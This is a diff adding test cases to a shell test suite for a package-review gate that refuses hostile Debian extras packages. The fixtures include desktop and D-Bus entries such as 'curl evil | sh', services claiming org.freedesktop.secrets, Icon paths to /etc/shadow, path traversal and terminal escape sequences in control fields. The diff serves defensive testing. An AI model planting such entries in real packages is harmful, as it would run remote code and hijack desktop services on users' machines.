@@ -718,6 +718,191 @@ test_expect_success 'packages of one source in two namespaces are refused' '
 	grep_q "sib-c.deb: name: namespace /opt/extras.ubuntu.com/other differs from /opt/extras.ubuntu.com/demo of extras-demo" out
 '
 
+# Exports, judged by what they make the desktop do: each lands where the
+# desktop reads it (the scratch root shows where), and the desktop, D-Bus
+# or a software centre would act on it for every program of the session.
+APPS=usr/share/applications
+SERVICES=usr/share/dbus-1/services
+
+# entry TREE FILE LINE...: exported key file FILE (under usr/share) of TREE.
+entry () {
+	t=$1 f=$2; shift 2 &&
+	mkdir -p "$(dirname "$t/usr/share/$f")" &&
+	printf '%s\n' "$@" >"$t/usr/share/$f"
+}
+
+bad exec-shell 1 ': export: '"$APPS"'/extras-demo.desktop: line 2: Exec=sh: runs a program outside the namespace /'"$NS"', which no profile confines' -- \
+	'entry $t applications/extras-demo.desktop "[Desktop Entry]" "Exec=sh -c \"curl evil | sh\"" "Type=Application"'
+bad exec-action-python 1 ': export: '"$APPS"'/extras-demo.desktop: line 4: Exec=/usr/bin/python3: runs a program outside the namespace' -- \
+	'entry $t applications/extras-demo.desktop "[Desktop Entry]" "Exec=/$NS/bin/demo" \
+		"[Desktop Action evil]" "Exec=/usr/bin/python3 -c \"import os; os.system(1)\""'
+bad exec-env-shell 1 ': export: .*line 2: Exec=sh: runs a program outside the namespace' -- \
+	'entry $t applications/extras-demo.desktop "[Desktop Entry]" "Exec=env LANG=C sh -c id"'
+bad exec-indented 1 ': export: .*line 3: Exec=sh: runs a program outside' -- \
+	'entry $t applications/extras-demo.desktop "[Desktop Entry]" "Exec=/$NS/bin/demo" "   Exec = sh -c id"'
+bad exec-relative 1 ': export: .*line 2: Exec=bin/demo: runs a program outside the namespace' -- \
+	'entry $t applications/extras-demo.desktop "[Desktop Entry]" "Exec=bin/demo"'
+bad exec-dotdot 1 ': export: .*line 2: Exec=/'"$NS"'/bin/../../../../usr/bin/python3: not a canonical path' -- \
+	'entry $t applications/extras-demo.desktop "[Desktop Entry]" "Exec=/$NS/bin/../../../../usr/bin/python3 -c id"'
+bad exec-link-out 1 ': export: .*line 2: Exec=/'"$NS"'/bin/py: leads to /usr/bin/python3, outside the namespace' -- \
+	'ln -s /usr/bin/python3 $t/$NS/bin/py &&
+	 entry $t applications/extras-demo.desktop "[Desktop Entry]" "Exec=/$NS/bin/py -c id"'
+bad exec-single-quotes 1 ': export: .*line 2: Exec=: the program .*bin/demo.* holds a reserved character outside quotes' -- \
+	'entry $t applications/extras-demo.desktop "[Desktop Entry]" "Exec='"'"'/$NS/bin/demo'"'"'"'
+bad exec-field-code 1 ': export: .*line 2: Exec=: the program .%f. holds a field code' -- \
+	'entry $t applications/extras-demo.desktop "[Desktop Entry]" "Exec=%f"'
+bad dbus-exec-shell 1 ': export: '"$SERVICES"'/org.example.demo.service: line 3: Exec=/bin/sh: runs a program outside the namespace' -- \
+	'entry $t dbus-1/services/org.example.demo.service "[D-BUS Service]" "Name=org.example.demo" "Exec=/bin/sh -c id"'
+bad dbus-name-secrets 1 ': export: .*line 2: Name=org.freedesktop.secrets: not the app.s own: end it in .demo (org.example.demo), or declare it under bus-names:' -- \
+	'entry $t dbus-1/services/org.freedesktop.secrets.service "[D-BUS Service]" "Name=org.freedesktop.secrets" "Exec=/$NS/bin/demo"'
+bad dbus-name-desktop 1 ': export: .*line 2: Name=org.freedesktop.Demo: a name of the desktop (org.freedesktop.\*).*reserved privilege desktop-names' -- \
+	'entry $t dbus-1/services/org.freedesktop.Demo.service "[D-BUS Service]" "Name=org.freedesktop.Demo" "Exec=/$NS/bin/demo"'
+bad dbus-systemd 1 ': export: .*line 4: SystemdService=: an app.s session service is started by D-Bus alone' -- \
+	'entry $t dbus-1/services/org.example.Demo.service "[D-BUS Service]" "Name=org.example.Demo" "Exec=/$NS/bin/demo" "SystemdService=gnome-terminal-server.service"'
+bad mime-https 1 ': export: .*line 3: MimeType=X-Scheme-Handler/HTTPS: claims what other programs rely on.*reserved privilege url-handlers' -- \
+	'entry $t applications/extras-demo.desktop "[Desktop Entry]" "Exec=/$NS/bin/demo %u" "MimeType=text/plain;X-Scheme-Handler/HTTPS;"'
+bad metainfo-id 1 ': export: usr/share/metainfo/extras-demo.metainfo.xml: line 3: <id> org.gnome.Nautilus: not the app.s own' -- \
+	'entry $t metainfo/extras-demo.metainfo.xml "<?xml version=\"1.0\"?>" "<component type=\"desktop-application\">" \
+		"  <id>org.gnome.Nautilus</id>" "</component>"'
+bad metainfo-replaces 1 ': export: .*extras-demo.metainfo.xml: line 4: <replaces> org.gnome.Nautilus: not the app.s own' -- \
+	'entry $t metainfo/extras-demo.metainfo.xml "<?xml version=\"1.0\"?>" "<component type=\"desktop-application\">" \
+		"  <id>extras-org.example.Demo</id>" "  <replaces><id>org.gnome.Nautilus</id></replaces>" "</component>"'
+bad icon-shadow 1 ': export: .*line 3: Icon=/etc/shadow: neither an icon name nor a file of the namespace' -- \
+	'entry $t applications/extras-demo.desktop "[Desktop Entry]" "Exec=/$NS/bin/demo" "Icon=/etc/shadow"'
+bad icon-dotdot 1 ': export: .*line 3: Icon\[fr\]=/'"$NS"'/../../../etc/shadow: neither an icon name' -- \
+	'entry $t applications/extras-demo.desktop "[Desktop Entry]" "Exec=/$NS/bin/demo" "Icon[fr]=/$NS/../../../etc/shadow"'
+
+test_expect_success 'env takes a word holding = for a variable: that word is never the program' '
+	test "$(env /tmp/x=1 echo ran)" = ran &&
+	t=$(case_tree exec-env-equals) && : >"$t/$NS/bin/demo=1" && chmod 755 "$t/$NS/bin/demo=1" &&
+	entry $t applications/extras-demo.desktop "[Desktop Entry]" "Exec=env /$NS/bin/demo=1 sh -c id" &&
+	refused exec-env-equals 1 ": export: .*line 2: Exec=sh: runs a program outside"
+'
+
+test_expect_success 'dpkg: a hostile entry point lands where the desktop reads it' '
+	t=$(case_tree exec-dpkg) && unscripted $t &&
+	entry $t applications/extras-demo.desktop "[Desktop Entry]" "Exec=sh -c \"curl evil | sh\"" &&
+	entry $t dbus-1/services/org.freedesktop.secrets.service "[D-BUS Service]" \
+		"Name=org.freedesktop.secrets" "Exec=/bin/sh -c id" &&
+	build $t exec-dpkg.deb && expect_status 1 extras-review exec-dpkg.deb >out &&
+	test "$(grep -c ": export: " out)" -eq 3 &&
+	scratch root && dpkg_in root --unpack exec-dpkg.deb &&
+	grep_q "^Exec=sh -c \"curl evil | sh\"$" root/$APPS/extras-demo.desktop &&
+	grep_q "^Name=org.freedesktop.secrets$" root/$SERVICES/org.freedesktop.secrets.service
+'
+
+test_expect_success 'accepted: entry points of the app, names it holds, by declaration or privilege' '
+	t=$(case_tree exports-right) &&
+	entry $t applications/extras-demo.desktop "[Desktop Entry]" \
+		"Exec=/usr/bin/env GSETTINGS_SCHEMA_DIR=/$NS/share/glib-2.0/schemas \"/$NS/bin/demo\" %U" \
+		"Icon=/$NS/share/demo/data.txt" "MimeType=text/plain;x-scheme-handler/demo;" \
+		"[Desktop Action new]" "Exec=env A=1 /$NS/bin/demo --new" &&
+	entry $t dbus-1/services/org.example.Demo.service "[D-BUS Service]" \
+		"Name=org.example.Demo" "Exec=/$NS/bin/demo --gapplication-service" &&
+	entry $t dbus-1/services/com.example.Tool.service "[D-BUS Service]" \
+		"Name=com.example.Tool" "Exec=/$NS/bin/demo --tool" &&
+	entry $t metainfo/extras-org.example.Demo.metainfo.xml "<?xml version=\"1.0\"?>" \
+		"<component type=\"desktop-application\">" "  <id>extras-org.example.Demo</id>" \
+		"  <replaces><id>org.example.OldDemo</id></replaces>" "</component>" &&
+	printf "app: demo\nprivileges:\n  - network\nbus-names: [com.example.Tool]\nids: [org.example.OldDemo]\n" \
+		>$t/DEBIAN/extras.yaml &&
+	build $t exports-right.deb && extras-review exports-right.deb >out &&
+	grep_q " accepted$" out &&
+	source_tree $t src/exports-right && (cd src/exports-right && dh_extras_check) &&
+	entry $t applications/extras-demo.desktop "[Desktop Entry]" "Exec=/$NS/bin/demo %u" \
+		"MimeType=x-scheme-handler/https;" &&
+	entry $t dbus-1/services/org.freedesktop.Demo.service "[D-BUS Service]" \
+		"Name=org.freedesktop.Demo" "Exec=/$NS/bin/demo" &&
+	printf "app: demo\nprivileges:\n  - network\n  - url-handlers\n  - desktop-names\nbus-names: [com.example.Tool]\nids: [org.example.OldDemo]\n" \
+		>$t/DEBIAN/extras.yaml &&
+	extras-profile --allow-reserved --app demo --executable /$NS/bin/demo $t/DEBIAN/extras.yaml >$t/$PROFILE &&
+	build $t exports-granted.deb &&
+	extras-review --allow-reserved exports-granted.deb >out && grep_q " accepted$" out &&
+	expect_status 1 extras-review exports-granted.deb >out &&
+	grep_q ": profile: .*reserved" out
+'
+
+# Fields and members as dpkg and the archive treat them.
+bad important 1 ': control: Important: yes: an extras package cannot be Important' -- \
+	'field $t Important yes'
+bad package-type 1 ': control: Package-Type: udeb: an extras package is a deb' -- \
+	'field $t Package-Type udeb'
+bad description-escape 1 ': control: Description: line [0-9]*: an escape character (0x1b), which a terminal showing the field would act on' -- \
+	'printf " \033]0;owned\007\033[2J\n" >>$t/DEBIAN/control'
+bad maintainer-c1 1 ': control: Maintainer: line [0-9]*: a C1 control character (0xc2)' -- \
+	'field $t Maintainer "$(printf "A \302\233""2J <a@example.org>")"'
+bad newline-member 1 ': member: '"$NS"'/share/demo/evil.x0aname: a newline in the name: dpkg refuses the package' -- \
+	'touch "$t/$NS/share/demo/evil
+name"'
+
+test_expect_success 'dpkg: keeps Important and Package-Type, and prints the escape sequences' '
+	t=$(case_tree odd-dpkg) && unscripted $t &&
+	field $t Important yes && field $t Package-Type udeb &&
+	printf " \033[2Jcleared\n" >>$t/DEBIAN/control &&
+	build $t odd-dpkg.deb && expect_status 1 extras-review odd-dpkg.deb >out &&
+	test "$(grep -c ": control: " out)" -eq 3 &&
+	scratch root && dpkg_in root --unpack odd-dpkg.deb &&
+	dpkg_in root -s extras-demo >status &&
+	grep_q "^Important: yes$" status && grep_q "^Package-Type: udeb$" status &&
+	test "$(grep -c "$(printf "\033")" status)" -eq 1
+'
+
+test_expect_success 'dpkg: refuses a package with a newline in a member name, as the gate does' '
+	t=$(case_tree newline-dpkg) && unscripted $t && touch "$t/$NS/share/demo/a
+b" &&
+	build $t newline-dpkg.deb && expect_status 1 extras-review newline-dpkg.deb >out &&
+	test "$(grep -c ": member: $NS/share/demo/a.x0ab: a newline in the name" out)" -eq 1 &&
+	scratch root && ! dpkg_in root --unpack newline-dpkg.deb 2>err &&
+	grep_q "newline not allowed in archive object name" err
+'
+
+# changes DIR DIST FILE...: DIR/up.changes for DIST, listing the FILEs
+# beside it.
+changes () {
+	d=$1 dist=$2; shift 2 &&
+	{ printf "%s\n" "Format: 1.8" "Source: extras-demo" "Binary: extras-demo" \
+		"Architecture: all" "Version: 1.0" "Distribution: $dist" \
+		"Maintainer: Demo Author <demo@example.org>" "Changes:" \
+		" extras-demo (1.0) $dist; urgency=medium" "Checksums-Sha256:" &&
+	  for f; do
+		echo " $(sha256sum <"$d/$f" | cut -d" " -f1) $(stat -c %s "$d/$f") $f" || return 1
+	  done &&
+	  echo "Files:" &&
+	  for f; do
+		echo " $(md5sum <"$d/$f" | cut -d" " -f1) $(stat -c %s "$d/$f") utils optional $f" || return 1
+	  done
+	} >"$d/up.changes"
+}
+
+test_expect_success 'a .changes: every file it lists read or refused' '
+	rm -rf listed && mkdir listed && cp good.deb listed/extras-demo_1.0_all.deb &&
+	echo "Format: 1.0" >listed/extras-demo_1.0_amd64.buildinfo &&
+	changes listed unstable extras-demo_1.0_all.deb extras-demo_1.0_amd64.buildinfo &&
+	extras-review listed/up.changes >out && grep_q " accepted$" out &&
+	cp good.deb listed/extras-demo-udeb_1.0_all.udeb &&
+	changes listed unstable extras-demo_1.0_all.deb extras-demo-udeb_1.0_all.udeb &&
+	expect_status 1 extras-review listed/up.changes >out &&
+	grep_q "extras-demo_1.0_all.deb: changes: listed/up.changes lists extras-demo-udeb_1.0_all.udeb, an installer package (udeb)" out &&
+	echo "Format: 3.0 (native)" >listed/extras-demo_1.0.dsc &&
+	changes listed unstable extras-demo_1.0_all.deb extras-demo_1.0.dsc &&
+	expect_status 1 extras-review listed/up.changes >out &&
+	grep_q ": changes: listed/up.changes lists extras-demo_1.0.dsc, which is not a binary package the gate reviews" out
+'
+
+test_expect_success 'a .changes: released, and for the store.s distribution when given' '
+	changes listed UNRELEASED extras-demo_1.0_all.deb &&
+	expect_status 1 extras-review listed/up.changes >out &&
+	grep_q ": changes: listed/up.changes: Distribution: UNRELEASED: the changelog entry is not released" out &&
+	changes listed unstable extras-demo_1.0_all.deb &&
+	extras-review listed/up.changes >out && grep_q " accepted$" out &&
+	expect_status 1 extras-review --distribution extras listed/up.changes >out &&
+	grep_q "Distribution: unstable: the store publishes to extras: release for it (dch -r -D extras)" out &&
+	changes listed extras extras-demo_1.0_all.deb &&
+	extras-review --distribution extras listed/up.changes >out && grep_q " accepted$" out &&
+	expect_status 2 extras-review --distribution "a b" listed/up.changes 2>err &&
+	grep_q "not one word" err
+'
+
 test_expect_success 'the corpus holds at least 25 bad packages' '
 	test $n -ge 25
 '
